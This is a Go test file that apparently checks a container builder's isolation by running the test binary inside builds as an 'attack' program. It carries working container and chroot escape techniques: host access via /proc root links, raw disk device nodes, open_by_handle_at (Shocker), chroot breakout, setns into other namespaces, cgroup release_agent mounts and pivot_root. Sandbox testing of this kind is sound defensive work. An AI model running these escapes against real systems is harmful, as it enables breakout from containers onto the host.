package containerfile

import (
	"encoding/binary"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// The test program is also the attacker: RUN steps start it as "attack", with targets as
// arguments. It prints a line for each successful attack.
func init() {
	if filepath.Base(os.Args[0]) != "attack" {
		return
	}
	for _, argument := range os.Args[1:] {
		what, value, _ := strings.Cut(argument, "=")
		attacks[what](value)
	}
	os.Exit(0)
}

var attacks = map[string]func(value string){
	"file": attackFile, "nested": attackNested, "process": attackProcess, "secret": attackSecret, "kernel": attackKernel,
	"loopback": attackLoopback, "socket": attackSocket, "memory": attackMemory, "key": attackKey,
	"leave": leaveKey, "owned": makeOwned, "agent": askAgent, "get": getURL,
}

func escaped(how string, arguments ...any) { fmt.Printf("ESCAPED "+how+"\n", arguments...) }

// roots returns paths that may lead to the root of this machine.
func roots() []string {
	found := []string{""}
	for _, pattern := range []string{"/proc/[0-9]*/root", "/proc/[0-9]*/cwd", "/proc/[0-9]*/fd/*"} {
		links, _ := filepath.Glob(pattern)
		for _, link := range links {
			found = append(found, link, link+strings.Repeat("/..", 20))
		}
	}
	return found
}

// attackFile looks for a file of the host, and writes one beside it.
func attackFile(path string) {
	for _, root := range roots() {
		lookFor(path, "by "+root, root)
	}
	attackDisks()
	attackHandle()
	attackNamespaces(path)
	attackMounts(path)
	// chroot without leaving the working directory: https://filippo.io/escaping-a-chroot-jail-slash-1/
	if root, err := os.Open("/"); err == nil {
		os.Mkdir("/jail", 0o755)
		if unix.Chroot("/jail") == nil {
			root.Chdir()
			for range 64 {
				os.Chdir("..")
			}
			if unix.Chroot(".") == nil {
				lookFor(path, "by chroot", "")
			}
		}
		os.Remove("/jail")
	}
}

// lookFor reads a file, and writes beside it if it is the target.
func lookFor(path, how, root string) {
	if data, err := os.ReadFile(root + path); err != nil || !strings.Contains(string(data), "canary") {
		return
	}
	escaped("%s: read %s", how, path)
	if os.WriteFile(root+path+".written", nil, 0o600) == nil {
		escaped("%s: wrote beside %s", how, path)
	}
}

// attackDisks opens the disks of the machine.
func attackDisks() {
	os.MkdirAll("/tmp/dev", 0o755)
	for i, number := range disks() {
		node := fmt.Sprintf("/tmp/dev/%d", i)
		if unix.Mknod(node, unix.S_IFBLK|0o600, int(number)) == nil {
			escaped("made the disk %d:%d, and reads it: %v", unix.Major(number), unix.Minor(number), readsDisk(node))
		}
	}
	os.RemoveAll("/tmp/dev")
	filepath.WalkDir("/dev", func(path string, entry fs.DirEntry, err error) error {
		if err == nil && entry.Type()&os.ModeDevice != 0 && entry.Type()&os.ModeCharDevice == 0 && readsDisk(path) {
			escaped("read the disk %s", path)
		}
		return nil
	})
}

// disks returns the disks of all visible mounts.
func disks() (numbers []uint64) {
	for _, at := range []string{"/proc/self/mountinfo", "/proc/1/mountinfo"} {
		mounts, _ := os.ReadFile(at)
		for line := range strings.Lines(string(mounts)) {
			fields := strings.Fields(line)
			if len(fields) < 3 {
				continue
			}
			major, minor, _ := strings.Cut(fields[2], ":")
			ma, _ := strconv.Atoi(major)
			mi, _ := strconv.Atoi(minor)
			if ma > 0 {
				numbers = append(numbers, unix.Mkdev(uint32(ma), uint32(mi)))
			}
		}
	}
	return numbers
}

func readsDisk(path string) bool {
	f, err := os.Open(path)
	if err != nil {
		return false
	}
	defer f.Close()
	n, _ := f.Read(make([]byte, 512))
	return n > 0
}

// attackHandle opens the root of a file system by its inode: https://github.com/gabrtv/shocker
func attackHandle() {
	for _, at := range []string{"/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/"} {
		mount, err := unix.Open(at, unix.O_RDONLY, 0)
		if err != nil {
			continue
		}
		handle := make([]byte, 8)
		binary.NativeEndian.PutUint32(handle, 2) // inode 2 is the root of ext4
		if fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(1, handle), unix.O_RDONLY); err == nil {
			escaped("opened the root behind %s by its handle", at)
			unix.Close(fd)
		}
		unix.Close(mount)
	}
}

// attackNamespaces enters the namespaces of other processes.
func attackNamespaces(path string) {
	for name, kind := range map[string]int{"mnt": unix.CLONE_NEWNS, "user": unix.CLONE_NEWUSER, "pid": unix.CLONE_NEWPID, "net": unix.CLONE_NEWNET, "ipc": unix.CLONE_NEWIPC, "uts": unix.CLONE_NEWUTS, "cgroup": unix.CLONE_NEWCGROUP} {
		mine, _ := os.Readlink("/proc/self/ns/" + name)
		namespaces, _ := filepath.Glob("/proc/[0-9]*/ns/" + name)
		for _, link := range namespaces {
			if its, _ := os.Readlink(link); its == "" || its == mine {
				continue
			}
			onThread(func() {
				f, err := os.Open(link)
				if err != nil {
					return
				}
				defer f.Close()
				if unix.Setns(int(f.Fd()), kind) == nil {
					escaped("entered %s", link)
					lookFor(path, "in "+link, "")
				}
			})
		}
	}
}

// onThread runs a function on a new thread, which then ends.
func onThread(do func()) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread()
		unix.Unshare(unix.CLONE_FS)
		do()
	}()
	<-done
}

// attackMounts mounts file systems of the machine, in a new namespace if possible.
func attackMounts(path string) {
	onThread(func() {
		own := unix.Unshare(unix.CLONE_NEWNS) == nil
		if own {
			escaped("made a mount namespace")
			unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
		}
		os.MkdirAll("/mnt", 0o755)
		for _, kind := range []string{"tmpfs", "proc", "sysfs", "devtmpfs", "cgroup2", "debugfs", "securityfs", "overlay"} {
			if unix.Mount(kind, "/mnt", kind, 0, "") == nil {
				escaped("mounted %s", kind)
				unix.Unmount("/mnt", unix.MNT_DETACH)
			}
		}
		if unix.Mount("cgroup", "/mnt", "cgroup", 0, "memory") == nil {
			escaped("mounted cgroup, with release_agent")
			unix.Unmount("/mnt", unix.MNT_DETACH)
		}
		if unix.Mount("/", "/mnt", "", unix.MS_BIND|unix.MS_REC, "") == nil {
			escaped("mounted the root")
			if own && unix.PivotRoot("/mnt", "/mnt") == nil {
				escaped("has another root")
				lookFor(path, "behind another root", "")
			}
			unix.Unmount("/mnt", unix.MNT_DETACH)
		}
		if fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.AT_RECURSIVE); err == nil {
			escaped("cloned the tree of mounts")
			unix.Close(fd)
		}
		if fd, err := unix.Fsopen("proc", 0); err == nil {
			escaped("opened a file system")
			unix.Close(fd)
		}
		if unix.Unmount("/proc/kcore", unix.MNT_DETACH) == nil || unix.Unmount("/proc", unix.MNT_DETACH) == nil {
			escaped("removed a mount")
		}
	})
	attackNested(path)
}

// attackNested attacks from a new user namespace.
func attackNested(path string) {
	if os.Getenv("NESTED") == "" {
		startNested(path)
		return
	}
	for i, number := range disks() {
		node := fmt.Sprintf("/tmp/nested-%d", i)
		if unix.Mknod(node, unix.S_IFBLK|0o600, int(number)) == nil {
			escaped("made a disk in a namespace")
		}
		os.Remove(node)
	}
	unix.Mount("proc", "/proc", "proc", 0, "")
	for _, root := range roots() {
		lookFor(path, "in a namespace by "+root, root)
	}
}
